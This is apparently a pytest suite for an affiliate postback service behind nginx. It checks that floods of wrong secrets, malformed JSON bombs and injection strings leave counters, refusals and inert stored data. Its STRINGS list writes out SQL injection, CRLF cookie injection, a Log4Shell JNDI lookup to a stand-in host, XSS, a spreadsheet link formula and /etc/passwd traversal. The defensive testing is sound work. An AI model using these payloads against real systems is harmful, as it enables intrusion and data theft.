"""What strangers and hostile senders post: counters and log lines, inert data, and nothing else."""

import socket

import pytest

from lib.admin_client import made, make_campaign
from lib.nginx import read_proc
from lib.prometheus import counter
from lib.tools import click_id
from lib.wait import wait_until

PER_CONNECTION = 1000
WRONG = (
    "/postback/demo/secret{n}?cid=abc&txid={n}",
    "/postback/demo?cid=abc&txid={n}&token=secre{n}",
    "/postback/nobody{n}/secret?cid=abc",
    "/{n}/postback?cid=abc",
    "/postback?affiliate_id=1&click_id=abc&amount=1&token={n}",
)


def anonymous_memory(pid):
    line = next(line for line in read_proc(pid, "status").splitlines() if line.startswith(b"RssAnon"))
    return int(line.split()[1]) * 1024


def send_wrong(nginx, first, count):
    """Pipelined, on one connection after the other; every answer is 404."""
    for start in range(first, first + count, PER_CONNECTION):
        paths = (WRONG[n % len(WRONG)].format(n=n) for n in range(start, start + PER_CONNECTION))
        last = "Connection: close\r\n\r\n"
        requests = "".join(f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n" for path in paths)
        with socket.create_connection(("127.0.0.1", nginx.port), 30) as connection:
            connection.sendall((requests[:-2] + last).encode())
            received = b"".join(iter(lambda: connection.recv(1 << 20), b""))
        assert received.count(b"HTTP/1.1 404 ") == received.count(b"HTTP/1.1 ") == PER_CONNECTION


@pytest.mark.proves("A62")
def test_a_hundred_thousand_wrong_secrets_leave_counters_and_log_lines(make_nginx):
    server = f"keepalive_requests {PER_CONNECTION + 1};"
    nginx = make_nginx(workers=1, server=server).start()
    nginx.push(partner_auth="token")
    send_wrong(nginx, 0, 20_000)
    [pid] = nginx.workers()
    before = anonymous_memory(pid)
    send_wrong(nginx, 20_000, 80_000)
    assert nginx.workers() == [pid]
    assert anonymous_memory(pid) <= before + (1 << 20)
    metrics = nginx.client.get("/tributary/metrics").text
    assert counter(metrics, "tributary_postbacks_unauthorised_total") == 100_000
    assert not nginx.journal()


CLICK = b"CLICK"  # each bomb has a click that would count
SOUND = b'{"click_id":"CLICK","payout":1}'
BOMBS = {
    "an array too deep": (b'{"click_id":"CLICK","a":' + b"[" * 400_000, "unparsable_body"),
    "objects too deep": (b'{"click_id":"CLICK"' + b',"a":{"b":1' * 30_000 + b"}" * 30_001, "unparsable_body"),
    "a member that stands twice": (b'{"click_id":"CLICK","payout":1,"payout":2}', "unparsable_body"),
    "a number too long": (b'{"click_id":"CLICK","payout":' + b"9" * 300_000 + b"}", "bad_money"),
    "a body too long": (b'{"click_id":"CLICK","txid":"' + b"x" * (1 << 20) + b'"}', 413),
    "too many members": (
        b'{"click_id":"CLICK",' + b",".join(b'"p%d":1' % n for n in range(20_000)) + b"}",
        "too_many_parameters",
    ),
    "half a surrogate": (b'{"click_id":"CLICK","txid":"\\ud800"}', "unparsable_body"),
    "a number too large": (b'{"click_id":"CLICK","payout":1e309}', "bad_money"),
    "no number": (b'{"click_id":"CLICK","payout":NaN}', "unparsable_body"),
    "a name that is not UTF-8": (b'{"click_id":"CLICK","\xff":1}', "unparsable_body"),
    "two documents": (b'{"click_id":"CLICK"}{"b":2}', "unparsable_body"),
}


@pytest.mark.proves("A62", "A68")
def test_json_bombs_are_quarantined_or_refused_and_hurt_nobody(nginx):
    pids = nginx.workers()
    headers = {"Content-Type": "application/json"}

    def verdict(body):
        content = body.replace(CLICK, click_id(nginx.client.get("/c/c1")).encode())
        answer = nginx.client.post("/postback/demo/secret", content=content, headers=headers)
        return answer.json()["verdict"] if answer.status_code == 200 else answer.status_code

    found = {name: verdict(bomb) for name, (bomb, _) in BOMBS.items()}
    assert found == {name: expected for name, (_, expected) in BOMBS.items()}
    assert verdict(SOUND) == "accepted"
    assert nginx.workers() == pids
    expected = sorted([*(word for word in found.values() if word != 413), "accepted"])
    recorded = nginx.wait_recorded(len(BOMBS) + 1 + len(expected))
    assert sorted(item["verdict"] for item in recorded if "verdict" in item) == expected


STRINGS = [
    "'); DROP TABLE events.conversions; --",
    '" OR 1=1; --',
    "a\r\nSet-Cookie: stolen=1\r\n\r\n",
    "{click_id}{payout}{transaction}",
    "${jndi:ldap://x.example/a}",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://x.example")',
    "../../../../etc/passwd",
    "%00%0a%27",
    "\\x00\\'; SELECT pg_sleep(10); --",
    "\u202e\u0000\U0001f4a5",  # of no identifier: it cannot be stored whole
]
FIELDS = ["click_id", "txid", "status", "payout", "revenue", "cost", "currency", "event", "custom1", "custom20"]


@pytest.mark.proves("A62", "A66", "A68", "A70")
def test_injection_strings_in_every_field_of_a_postback_are_inert_data(full):
    full.add_edge()
    url = "https://shop.example.com/?cid={click_id}"
    destination = made(full.buyer.post("/api/v1/destinations", json={"name": "shop", "url": url}))
    campaign = make_campaign(full.buyer, "sale")
    stream = {"name": "all", "destinations": [{"destination_id": destination["id"], "weight": 1}]}
    made(full.buyer.post(f"/api/v1/campaigns/{campaign['id']}/streams", json=stream))
    network = made(full.buyer.post("/api/v1/networks", json={"name": "Acme", "key": "acme"}))
    full.wait_pushed()
    path = f"/postback/acme/{network['secret']}"
    pids = full.nginx.workers()
    accepted = {field: [] for field in FIELDS}
    for field in FIELDS:
        for place, text in enumerate(STRINGS):
            sent = {"click_id": click_id(full.nginx.client.get("/c/sale")), "txid": f"{field}-{place}", field: text}
            answer = full.nginx.client.post(path, data=sent)
            assert answer.status_code == 200, (field, text, answer.text)
            assert "set-cookie" not in answer.headers
            if answer.json()["verdict"] == "accepted":
                accepted[field].append(text)
    calls = len(FIELDS) * len(STRINGS)
    database = full.database
    wait_until(lambda: database.value("SELECT count(*) FROM events.postbacks") == calls, f"{calls} calls", 30)
    assert database.value("SELECT count(*) FROM events.ingestion_errors") == 0
    assert full.nginx.workers() == pids
    # What is text stays that text; what is a number, a status or a click does not become one.
    inert = {"txid": STRINGS[:-1], "event": STRINGS[:-1], "custom1": STRINGS, "custom20": STRINGS}
    assert {field: texts for field, texts in accepted.items() if texts} == inert
    texts = {text.strip() for text in STRINGS[:-1]}
    for column in ("transaction", "event", "custom[1]", "custom[20]"):
        stored = database.rows(f"SELECT {column} FROM events.postbacks WHERE verdict < 64 AND {column} IS NOT NULL")
        assert texts <= {text.strip() for (text,) in stored}, column
        assert (("\u202e\ufffd\U0001f4a5",) in stored) == column.startswith("custom")
    for column in ("transaction", "event"):
        assert texts <= {text for (text,) in database.rows(f"SELECT {column} FROM events.conversions")}, column
    numbers = ("payout", "revenue", "cost", "currency", "status")
    bad = database.rows(
        "SELECT transaction FROM events.conversions WHERE transaction ~ %s", (f"^({'|'.join(numbers)})-",)
    )
    assert not bad
    assert database.value("SELECT count(*) FROM events.conversions WHERE payout IS NOT NULL OR cost IS NOT NULL") == 0
    log = full.buyer.get("/api/v1/postbacks", params={"limit": 200})
    assert len(log.json()["data"]) == calls
